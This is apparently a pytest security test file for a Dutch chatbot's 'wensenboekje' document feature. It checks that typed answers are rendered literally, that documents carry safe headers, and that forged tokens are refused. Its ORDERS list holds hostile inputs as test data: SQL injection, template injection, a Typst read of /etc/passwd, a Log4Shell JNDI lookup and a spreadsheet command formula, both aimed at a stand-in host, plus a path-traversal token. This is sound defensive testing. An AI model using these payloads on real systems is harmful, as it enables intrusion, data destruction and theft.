"""Somebody else's document; and strings that a database, a template or a typesetter would take for orders."""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass, field
from typing import Any

import pytest
import requests

from bot.store.requests import RequestState
from tests.attacks.scene import CANARY, Scene
from tests.served import Served
from tests.unit.documents.pdf_reader import Pdf

SECONDS = 30
ORDERS = (
    "'; DROP TABLE guide_progress; --",
    "x' OR '1'='1' UNION SELECT sealed FROM guide_progress --",
    "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    '#read("/etc/passwd") #eval("6 * 7") #panic()',
    '#import "page.typ": * $ x^2 $ // weg /* weg */ @bron <label-1> *vet* _schuin_',
    "{0.__class__.__init__.__globals__} {name!r:>999} %s %n %(x)s ${jndi:ldap://kwaad.example/a}",
    "\\u{41} \\ #{ 6 * 7 } `raw` ``` ~ -- --- ... = Kop",
    "=cmd|' /C calc'!A0 @SUM(1) \\\\kwaad.example\\share",
)
ANSWERS = tuple(f"Samen koffie drinken {order}" for order in ORDERS)
"""Without words of a language it would be no answer."""
WORDS_ONLY = {"Overslaan", "Waarom vragen we dit?", "Terug", "Stoppen"}
"""The buttons under a question that asks for one's own words."""
OWN_WORDS = "Dit was mijn antwoord"
"""Asked when it looked like something else than an answer."""
STEPS = 80


@dataclass
class Person:
    """Somebody who goes through a guide."""

    served: Served
    sender: str = field(default_factory=lambda: str(uuid.uuid4()))
    replies: list[dict[str, Any]] = field(default_factory=list)

    @property
    def buttons(self) -> dict[str, str]:
        return {b["title"]: b["payload"] for r in self.replies for b in r.get("buttons", [])}

    @property
    def text(self) -> str:
        return "\n".join(r["text"] for r in self.replies if r.get("text"))

    def say(self, text: str) -> None:
        self.replies = self.served.say(self.sender, text)

    def press(self, *titles: str) -> None:
        for title in titles:
            self.say(self.buttons[title])

    def token(self, kind: str) -> str:
        """Return the token of a document that was offered."""
        files = [r["attachment"]["payload"] for r in self.replies if r.get("attachment")]
        return next(file["token"] for file in files if f":{kind}:" in file["token"])


def write_down(person: Person, words: tuple[str, ...]) -> list[str]:
    """Make a wensenboekje with these as answers to the questions for one's own words; return those it took."""
    person.say("wensenboekje")
    person.press("Ja, bewaar het", "Voor mijzelf", "Rustig alles langs")
    left, taken = list(words), []
    for _ in range(STEPS):
        if not left:
            break
        if OWN_WORDS in person.buttons:
            person.press(OWN_WORDS)
        elif set(person.buttons) <= WORDS_ONLY:
            taken.append(left.pop(0))
            person.say(taken[-1])
        else:
            assert "Overslaan" in person.buttons, person.replies
            person.press("Overslaan")
    person.say("maak mijn boekje")
    return taken


@pytest.fixture(scope="module")
def author(scene: Scene) -> Person:
    """Somebody whose answers are orders to somebody else."""
    person = Person(scene.server)
    assert write_down(person, ANSWERS) == list(ANSWERS)
    return person


def fetch(scene: Scene, sender: str, token: str) -> requests.Response:
    """Ask for a document."""
    body = {"sender": sender, "token": token}
    return requests.post(f"{scene.server.url}/webhooks/rest/document", json=body, timeout=SECONDS)


def solid(text: str) -> str:
    """Return a text without blanks: a typesetter breaks lines where it likes."""
    return "".join(text.split())


def test_what_looks_like_an_order_stands_in_the_document_as_it_was_typed(scene: Scene, author: Person) -> None:
    answer = fetch(scene, author.sender, author.token("pdf"))
    printed = solid(Pdf(answer.content).text)
    for order in ORDERS:
        assert solid(order) in printed
    assert "root:" not in printed
    written = json.dumps(fetch(scene, author.sender, author.token("fhir")).json(), ensure_ascii=False)
    for order in ORDERS:
        assert json.dumps(order, ensure_ascii=False)[1:-1] in written


def test_a_document_is_kept_by_no_cache_and_taken_for_nothing_else(scene: Scene, author: Person) -> None:
    answer = fetch(scene, author.sender, author.token("pdf"))
    assert answer.headers["Content-Type"] == "application/pdf"
    assert answer.headers["Content-Disposition"] == 'attachment; filename="wensenboekje.pdf"'
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"].startswith("default-src 'none'")


def test_nobody_else_gets_the_document(scene: Scene, author: Person) -> None:
    token = author.token("pdf")
    tries = {
        "somebody else": (f"x{author.sender}", token),
        "nobody": ("default", token),
        "another day": (author.sender, token.replace(":pdf:", ":pdf:0")),
        "another kind": (author.sender, token.replace(":pdf:", ":fhir:")),
        "another guide": (author.sender, token.replace(":w:", ":r:")),
        "no signature": (author.sender, token.rpartition("~")[0] + "~"),
        "a file": (author.sender, f"../../{CANARY}"),
        "an order": (author.sender, f"~d:w:pdf:'; DROP TABLE guide_progress; --{CANARY}~x"),
        "half a sign": (author.sender, "~d:w:pdf:\ud800~x"),
    }
    for name, (sender, given) in tries.items():
        with scene.nothing_changes(), scene.server_log.tells("document.refused"):
            assert fetch(scene, sender, given).status_code == 404, name
    session = requests.post(f"{scene.server.url}/chat/session", timeout=SECONDS).json()["session"]
    with scene.nothing_changes(), scene.server_log.tells("document.refused"):
        body = {"session": session, "token": token}
        assert requests.post(f"{scene.server.url}/chat/document", json=body, timeout=SECONDS).status_code == 404


def test_a_document_has_no_address(scene: Scene, author: Person) -> None:
    query = f"?sender={author.sender}&token={author.token('pdf')}"
    for path in ("/webhooks/rest/document", "/chat/document"):
        with scene.server_log.tells("request.refused", status=405):
            assert requests.get(scene.server.url + path + query, timeout=SECONDS).status_code == 405


@pytest.mark.parametrize("order", ORDERS[:1] + ORDERS[2:3] + ORDERS[5:6])
def test_a_call_back_request_says_what_was_typed(scene: Scene, order: str) -> None:
    person = Person(scene.server)
    person.say("kan iemand mij terugbellen")
    person.say("0612345678")
    person.say(order)
    person.press("Over mijzelf", "Dat maakt niet uit")
    person.say(order)
    assert person.text.count(order) == 2
    person.press("Ja, geef het door")
    request = next(r for r in scene.console.requests.mine(person.sender) if r.state is RequestState.OPEN)
    assert (request.details.name, request.details.about) == (order, order)
    assert request.details.contact == "+31612345678"
